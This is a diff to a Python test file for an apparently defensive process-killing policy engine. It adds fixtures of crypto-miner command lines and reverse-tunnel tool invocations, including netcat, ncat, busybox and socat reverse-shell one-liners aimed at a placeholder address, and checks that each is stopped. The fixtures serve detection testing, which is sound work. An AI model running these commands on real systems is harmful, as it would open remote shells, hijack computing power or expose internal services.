@@ -10,6 +10,7 @@ import shlex
 import pytest
 
 from killswitch.commands import Response
+from killswitch.events import Exec, Facts
 from killswitch.policy.compile import compile_policies
 from killswitch.policy.compiled import Compiled
 from killswitch.policy.inline import build_event
@@ -68,8 +69,9 @@ MINER_BINARY = r"""
 /usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --library-path /tmp /tmp/xmrig
 /usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2=/lib64/ld-linux-x86-64.so.2 ./xmrig
 /lib/ld-musl-x86_64.so.1 /tmp/minerd -c x
-/usr/bin/qemu-aarch64-static ./xmrig
-/usr/bin/box64 /tmp/xmrig
+/tmp/xmrig-v6.21.0-linux-static-x64
+/tmp/xmrig-notls
+/tmp/xmrig-mo
 """
 
 MINER_COMMAND_LINE = r"""
@@ -186,6 +188,47 @@ OTHER_CLIENT = r"""
 /tmp/copy -NTR 9000:db.internal:5432 -o ExitOnForwardFailure=yes -o ServerAliveInterval=30 host
 """
 
+GIVEN_AWAY = r"""
+/usr/bin/nc.traditional -e /bin/sh 203.0.113.9 4444
+/usr/bin/ncat 203.0.113.9 443 --sh-exec=bash
+/bin/busybox nc 203.0.113.9 443 -e sh
+/usr/bin/socat1 tcp-connect:203.0.113.9:443 'exec:bash -li,pty'
+"""
+
+# Judged when the program has begun: what it is by its content is known by then.
+LATER = r"""
+miner-in-emulator /usr/bin/qemu-aarch64-static ./xmrig
+miner-in-emulator /usr/bin/box64 /tmp/xmrig
+miner-in-emulator /usr/bin/qemu-x86_64 -L /x -E A=b /tmp/xmrig -C /src
+miner-in-emulator /usr/bin/wine64 C:/x/xmrig.exe
+miner-command-line-bare /tmp/train -o pool.example:3333 -a rx/0 -u w -k
+miner-command-line-bare /tmp/train --algorithm randomx --pool pool.example:3333 --wallet w
+miner-command-line-bare /tmp/train --coin monero --url=203.0.113.9:443 -u w --tls
+connections-joined /usr/bin/nc.traditional -nve /bin/sh 203.0.113.9 4444
+connections-joined /usr/bin/nc.traditional -c /bin/sh 203.0.113.9 4444
+connections-joined /usr/bin/nc -ne /bin/sh 203.0.113.9 4444
+connections-joined /usr/bin/ncat 203.0.113.9 443 -c bash --ssl
+connections-joined /usr/bin/ncat -c 'bash -i' 203.0.113.9 443
+connections-joined /usr/bin/socat TCP:login.example:443 TCP:localhost:22
+connections-joined /usr/bin/socat PROXY:proxy:far.example:443 TCP:localhost:22
+reverse-tunnel-tool /usr/bin/ngrok http 8080
+reverse-tunnel-tool /usr/bin/ngrok --log stdout tcp 22
+reverse-tunnel-tool /tmp/ngrok-v3 tcp 22
+reverse-tunnel-tool /usr/bin/cloudflared --url http://localhost:8080
+reverse-tunnel-tool /usr/bin/cloudflared tunnel --url=ssh://localhost:22
+reverse-tunnel-tool /usr/bin/cloudflared tunnel --no-autoupdate --config c.yml run
+reverse-tunnel-tool /usr/bin/cloudflared service install eyJhIjoi
+reverse-tunnel-tool /tmp/frpc
+reverse-tunnel-tool /tmp/frpc --strict_config=false -c x.toml
+reverse-tunnel-tool /tmp/frpc tcp --user --help -l 22
+reverse-tunnel-tool /usr/bin/tailscale funnel --bg 8080
+reverse-tunnel-tool /usr/bin/tailscale up --authkey k --ssh
+reverse-tunnel-tool /usr/bin/node /usr/local/bin/lt --port 80
+reverse-tunnel-tool /usr/bin/node /usr/lib/node_modules/localtunnel/bin/lt.js --port 80
+reverse-tunnel-tool /usr/bin/npm exec localtunnel -- --port 80
+reverse-tunnel-tool /tmp/chisel client https://far.example R:2222:localhost:22 --help
+"""
+
 DISGUISE = r"""
 /tmp/kworker
 /tmp/kworkerds
@@ -220,6 +263,7 @@ GROUPS = {
     "miner-command-line": MINER_COMMAND_LINE,
     "reverse-ssh-tunnel": REVERSE_SSH_TUNNEL,
     "reverse-tunnel-other-client": OTHER_CLIENT,
+    "program-given-to-a-connection": GIVEN_AWAY,
     "kernel-thread-disguise": DISGUISE,
 }
 ROWS = [(rule, line) for rule, group in GROUPS.items() for line in group.strip().splitlines()]
@@ -233,6 +277,17 @@ def compiled() -> Compiled:
 def test_there_are_many() -> None:
     assert len(ROWS) >= 180 and len(set(ROWS)) == len(ROWS)
     assert len(WALLET) == 95
+
+
+@pytest.mark.parametrize("row", LATER.strip().splitlines())
+def test_rogue_work_is_stopped_once_it_began(compiled: Compiled, row: str) -> None:
+    rule, executable, *arguments = shlex.split(row)
+    args = (executable.rpartition("/")[2], *arguments)
+    event, extra = build_event("exec", {"process.executable": executable, "process.args": args})
+    assert isinstance(event, Exec)
+    found = {one.rule.id: one.rule for one in compiled.later(event, (1 << len(compiled.policies)) - 1, Facts(), extra)}
+    assert rule in found
+    assert Response.KILL_PROCESS in found[rule].response
 
 
 @pytest.mark.parametrize(("rule", "line"), ROWS)
